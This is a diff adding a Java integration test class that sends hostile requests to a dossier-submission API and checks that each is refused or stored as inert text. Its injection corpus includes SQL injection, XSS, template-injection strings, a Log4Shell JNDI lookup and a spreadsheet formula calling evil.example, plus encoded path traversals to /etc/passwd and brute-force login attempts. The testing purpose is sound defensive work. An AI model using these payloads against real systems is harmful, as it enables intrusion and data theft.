@@ -1,0 +1,246 @@
+package vn.motcua.security;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static vn.motcua.security.AccessMatrixIT.assertProblem;
+
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.UUID;
+import java.util.function.Supplier;
+
+import org.camunda.bpm.engine.IdentityService;
+import org.camunda.bpm.engine.identity.User;
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.http.HttpEntity;
+import org.springframework.http.HttpHeaders;
+import org.springframework.http.HttpStatus;
+import org.springframework.http.MediaType;
+import org.springframework.http.ResponseEntity;
+import org.springframework.jdbc.core.simple.JdbcClient;
+
+import com.fasterxml.jackson.databind.JsonNode;
+
+import vn.motcua.support.IntegrationTest;
+
+/**
+ * A corpus of hostile requests: each is refused with a 4xx problem body, never a 5xx, and stores
+ * nothing; text that is merely unusual is stored as the inert text it is.
+ */
+class HostileRequestsIT extends IntegrationTest {
+
+    @Autowired
+    JdbcClient jdbc;
+
+    @Autowired
+    IdentityService identity;
+
+    private long dossiers() {
+        return jdbc.sql("select count(*) from dossier").query(Long.class).single();
+    }
+
+    /** The request is refused with this status and a problem body, and no dossier is stored. */
+    private ResponseEntity<JsonNode> refused(int status, Supplier<ResponseEntity<JsonNode>> request) {
+        long before = dossiers();
+        ResponseEntity<JsonNode> response = request.get();
+        assertProblem(response, status);
+        assertThat(dossiers()).as("dossiers stored").isEqualTo(before);
+        return response;
+    }
+
+    private static HttpEntity<String> json(String body) {
+        HttpHeaders headers = new HttpHeaders();
+        headers.setContentType(MediaType.APPLICATION_JSON);
+        return new HttpEntity<>(body, headers);
+    }
+
+    private static Map<String, Object> submission(Map<String, Object> data) {
+        return Map.of("procedureKey", PROCEDURE, "unitCode", UNIT, "channel", "ONLINE", "resultChannel", "ONLINE",
+                "data", data);
+    }
+
+    @Nested
+    class Bodies {
+
+        @Test
+        void shouldRefuseAnOversizedBody() {
+            String body = "{\"procedureKey\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}";
+            refused(413, () -> http.postForEntity("/api/dossiers", json(body), JsonNode.class));
+        }
+
+        @ParameterizedTest
+        @ValueSource(strings = {"{", "{\"procedureKey\": }", "[]", "null", "\"text\"", "{\"procedureKey\": 1e999999}",
+                "{\"procedureKey\":\"household_business_registration\",\"unitCode\":\"000.00.01.H01\",\"channel\":\"ONLINE\","
+                        + "\"resultChannel\":\"ONLINE\",\"data\":{},\"isAdmin\":true}"})
+        void shouldRefuseMalformedJson(String body) {
+            refused(400, () -> http.postForEntity("/api/dossiers", json(body), JsonNode.class));
+        }
+
+        @Test
+        void shouldRefuseDeeplyNestedJson() {
+            String nested = "[".repeat(5000) + "]".repeat(5000);
+            refused(400, () -> http.postForEntity("/api/dossiers",
+                    json("{\"procedureKey\":\"x\",\"unitCode\":\"y\",\"channel\":\"ONLINE\",\"resultChannel\":\"ONLINE\","
+                            + "\"data\":{\"a\":" + nested + "}}"), JsonNode.class));
+        }
+
+        @Test
+        void shouldRefuseTheWrongContentType() {
+            HttpHeaders headers = new HttpHeaders();
+            headers.setContentType(MediaType.APPLICATION_XML);
+            long before = dossiers();
+            ResponseEntity<JsonNode> response = http.postForEntity("/api/dossiers",
+                    new HttpEntity<>("<dossier/>", headers), JsonNode.class);
+            assertThat(response.getStatusCode().value()).isEqualTo(415);
+            assertThat(dossiers()).isEqualTo(before);
+        }
+    }
+
+    @Nested
+    class InjectionStrings {
+
+        private static final List<String> CORPUS = List.of("' OR '1'='1' --", "'; drop table dossier; --",
+                "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${7*7}", "#{7*7}", "{{7*7}}",
+                "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "=HYPERLINK(\"http://evil.example\")",
+                "\" onmouseover=\"alert(1)", "%00", "A".repeat(5000));
+
+        @Test
+        void shouldStoreInjectionStringsAsInertTextOrRefuseThem() {
+            for (String field : householdBusiness("x").keySet()) {
+                for (String hostile : CORPUS) {
+                    Map<String, Object> data = householdBusiness("Đinh Văn Toàn");
+                    data.put(field, hostile);
+                    long before = dossiers();
+                    ResponseEntity<JsonNode> response = http.postForEntity("/api/dossiers", submission(data), JsonNode.class);
+                    String what = field + " = " + hostile.substring(0, Math.min(40, hostile.length()));
+                    if (response.getStatusCode().is2xxSuccessful()) {
+                        // Accepted: it is stored as exactly the text that was sent, nothing ran.
+                        JsonNode stored = dossier(response.getBody().get("code").asText()).get("data").get(field);
+                        assertThat(stored.isTextual() ? stored.asText() : stored.toString()).as(what).isEqualTo(hostile);
+                        assertThat(dossiers()).as(what).isEqualTo(before + 1);
+                    } else {
+                        assertThat(response.getStatusCode().value()).as(what).isEqualTo(400);
+                        assertProblem(response, 400);
+                        assertThat(dossiers()).as(what).isEqualTo(before);
+                    }
+                }
+            }
+            assertThat(jdbc.sql("select count(*) from unit").query(Long.class).single()).isEqualTo(3);
+        }
+
+        @ParameterizedTest
+        @ValueSource(strings = {"Nguyễn\u0000Văn", "Nguyễn\u001bVăn", "Nguyễn\u0007"})
+        void shouldRefuseControlCharacters(String name) {
+            refused(400, () -> http.postForEntity("/api/dossiers", submission(householdBusiness(name)), JsonNode.class));
+        }
+
+        @Test
+        void shouldRefuseControlCharactersInParameters() {
+            ResponseEntity<JsonNode> response = as("reception").getForEntity("/api/notifications?dossier={code}",
+                    JsonNode.class, UNIT + "-240101-0001\u0000");
+            assertProblem(response, 400);
+        }
+    }
+
+    @Nested
+    class ForgedDossierCodes {
+
+        @ParameterizedTest
+        @ValueSource(strings = {"000.00.01.H01-240101-9999", "000.00.02.H01-240101-0001", "x-000000-0000"})
+        void shouldTellAnonymousCallersNothing(String code) {
+            assertProblem(http.getForEntity("/api/dossiers/{code}", JsonNode.class, code), 401);
+        }
+
+        @Test
+        void shouldAnswerNotFoundInTheOfficersOwnUnitAndForbiddenElsewhere() {
+            assertProblem(as("reception").getForEntity("/api/dossiers/{code}", JsonNode.class, UNIT + "-240101-9999"), 404);
+            assertProblem(as("reception").getForEntity("/api/dossiers/{code}", JsonNode.class, OTHER_UNIT + "-240101-0001"), 403);
+        }
+
+        @ParameterizedTest
+        @ValueSource(strings = {"/api/dossiers/..%2F..%2Fetc%2Fpasswd", "/api/dossiers/%2e%2e/%2e%2e/api/units",
+                "/api/dossiers/000.00.01.H01-240101-0001;jsessionid=x", "/api/dossiers/000.00.01.H01%00-240101-0001"})
+        void shouldRefuseTraversalsInPaths(String path) {
+            ResponseEntity<String> response = as("reception").getForEntity(java.net.URI.create(http.getRootUri() + path),
+                    String.class);
+            assertThat(response.getStatusCode().is4xxClientError()).as(path + " -> " + response.getStatusCode()).isTrue();
+        }
+    }
+
+    @Nested
+    class BruteForce {
+
+        @Test
+        void shouldLockAnOfficerOutAfterRepeatedBadPasswordsAndAuditThem() {
+            String id = "brute" + UUID.randomUUID().toString().substring(0, 8);
+            User user = identity.newUser(id);
+            user.setPassword("right-password-1");
+            identity.saveUser(user);
+            assertThat(http.withBasicAuth(id, "right-password-1").getForEntity("/api/audit?unit=" + UNIT
+                    + "&from=2024-01-01&to=2024-01-02", JsonNode.class).getStatusCode()).isEqualTo(HttpStatus.FORBIDDEN);
+
+            for (int attempt = 0; attempt < 12; attempt++) {
+                assertProblem(http.withBasicAuth(id, "guess-" + attempt).getForEntity("/api/dossiers/{code}",
+                        JsonNode.class, UNIT + "-240101-0001"), 401);
+            }
+            // Locked by the engine for a while: even the right password is refused now.
+            assertProblem(http.withBasicAuth(id, "right-password-1").getForEntity("/api/dossiers/{code}",
+                    JsonNode.class, UNIT + "-240101-0001"), 401);
+            long audited = jdbc.sql("select count(*) from audit_log where actor = ? and action = 'LOGIN_FAILED'")
+                    .param(id).query(Long.class).single();
+            assertThat(audited).isGreaterThanOrEqualTo(12);
+        }
+    }
+
+    @Nested
+    class ReplayedSubmissions {
+
+        private ResponseEntity<JsonNode> submitWithKey(String key, Map<String, Object> data) {
+            HttpHeaders headers = new HttpHeaders();
+            headers.set(IdempotencyKeys.HEADER, key);
+            return http.postForEntity("/api/dossiers", new HttpEntity<>(submission(data), headers), JsonNode.class);
+        }
+
+        @Test
+        void shouldAnswerARetryWithTheSameDossier() {
+            String key = "retry-" + UUID.randomUUID();
+            ResponseEntity<JsonNode> first = submitWithKey(key, householdBusiness("Tạ Văn Út"));
+            assertThat(first.getStatusCode()).isEqualTo(HttpStatus.CREATED);
+            long after = dossiers();
+
+            ResponseEntity<JsonNode> retry = submitWithKey(key, householdBusiness("Tạ Văn Út"));
+
+            assertThat(retry.getStatusCode()).isEqualTo(HttpStatus.OK);
+            assertThat(retry.getBody().get("code").asText()).isEqualTo(first.getBody().get("code").asText());
+            assertThat(dossiers()).isEqualTo(after);
+        }
+
+        @Test
+        void shouldRefuseTheSameKeyForAnotherBody() {
+            String key = "retry-" + UUID.randomUUID();
+            assertThat(submitWithKey(key, householdBusiness("Tạ Văn Út")).getStatusCode()).isEqualTo(HttpStatus.CREATED);
+            Map<String, Object> other = new LinkedHashMap<>(householdBusiness("Tạ Văn Út"));
+            other.put("capital", 1);
+            refused(422, () -> submitWithKey(key, other));
+        }
+
+        @Test
+        void shouldForgetAKeyWhoseSubmissionWasRefused() {
+            String key = "retry-" + UUID.randomUUID();
+            Map<String, Object> broken = householdBusiness("Tạ Văn Út");
+            broken.put("capital", -1);
+            refused(400, () -> submitWithKey(key, broken));
+            assertThat(submitWithKey(key, householdBusiness("Tạ Văn Út")).getStatusCode()).isEqualTo(HttpStatus.CREATED);
+        }
+
+        @ParameterizedTest
+        @ValueSource(strings = {"short", "has space in it", "key/with/slashes-1234"})
+        void shouldRefuseMalformedKeys(String key) {
+            refused(400, () -> submitWithKey(key, householdBusiness("Tạ Văn Út")));
+        }
+    }
+}
